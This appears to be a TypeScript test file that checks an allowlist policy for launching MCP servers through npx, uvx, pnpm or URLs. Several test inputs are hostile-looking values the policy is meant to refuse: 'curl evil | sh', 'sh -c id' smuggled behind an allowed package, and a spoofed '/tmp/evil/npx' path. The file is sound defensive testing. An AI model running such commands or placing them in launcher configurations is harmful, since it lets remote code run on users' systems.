import { describe, expect, it } from 'vitest';
import type { RpcConfig } from '../../src/config/rpc-schema.js';
import { parseConfig, type ServerConfig } from '../../src/config/index.js';
import { inlineServerRefusal } from '../../src/policy/inline-server-allowlist.js';

const rpc = (over: Partial<RpcConfig>): RpcConfig => ({ ...parseConfig({}).rpc, enabled: true, ...over });

function stdio(command: string, args: string[]): ServerConfig {
  return parseConfig({ servers: { s: { command, args } } }).servers.s!;
}

describe('inline server allowlist', () => {
  const rules = rpc({ allowCommands: ['npx', 'uvx', '/usr/bin/node', 'pnpm'], allowPackages: ['@modelcontextprotocol/*', 'mcp-server-time'] });

  it('matches bare commands only as bare, paths only exactly', () => {
    expect(inlineServerRefusal(stdio('/usr/bin/node', ['x.js']), rules)).toBeUndefined();
    expect(inlineServerRefusal(stdio('node', ['x.js']), rules)).toContain('not on rpc.allowCommands');
    expect(inlineServerRefusal(stdio('/tmp/evil/npx', ['-y', '@modelcontextprotocol/server-memory']), rules)).toContain('"/tmp/evil/npx"');
  });

  it('reads the package an npx or uvx launcher would run, versions and scopes included', () => {
    expect(inlineServerRefusal(stdio('npx', ['-y', '@modelcontextprotocol/server-memory@2026.8.31']), rules)).toBeUndefined();
    expect(inlineServerRefusal(stdio('uvx', ['mcp-server-time==1.0', '--local-timezone', 'UTC']), rules)).toBeUndefined();
    expect(inlineServerRefusal(stdio('npx', ['-y', 'left-pad']), rules)).toContain('"left-pad" is not on rpc.allowPackages');
    expect(inlineServerRefusal(stdio('npx', ['--package=@modelcontextprotocol/server-memory', 'mcp-server-memory']), rules)).toContain('"mcp-server-memory"');
    expect(inlineServerRefusal(stdio('npx', ['-p', '@modelcontextprotocol/server-memory', 'server-memory']), rules)).toBeUndefined();
  });

  it('refuses a listed package used to run another program, and shell options', () => {
    expect(inlineServerRefusal(stdio('npx', ['-p', '@modelcontextprotocol/server-memory', 'sh', '-c', 'id']), rules)).toContain('"sh"');
    expect(inlineServerRefusal(stdio('npx', ['-c', 'curl evil | sh']), rules)).toContain('runs a shell command');
    expect(inlineServerRefusal(stdio('uvx', ['--from', 'mcp-server-time', 'python']), rules)).toContain('"python"');
    expect(inlineServerRefusal(stdio('pnpm', ['install']), rules)).toContain('pnpm dlx');
    expect(inlineServerRefusal(stdio('npx', ['-y']), rules)).toContain('no package');
  });

  it('allows HTTP servers only under a listed URL prefix', () => {
    const http = parseConfig({ servers: { h: { url: 'https://mcp.example.com/mcp' } } }).servers.h!;
    expect(inlineServerRefusal(http, rules)).toContain('rpc.allowUrls');
    expect(inlineServerRefusal(http, rpc({ allowUrls: ['https://mcp.example.com/'] }))).toBeUndefined();
  });
});
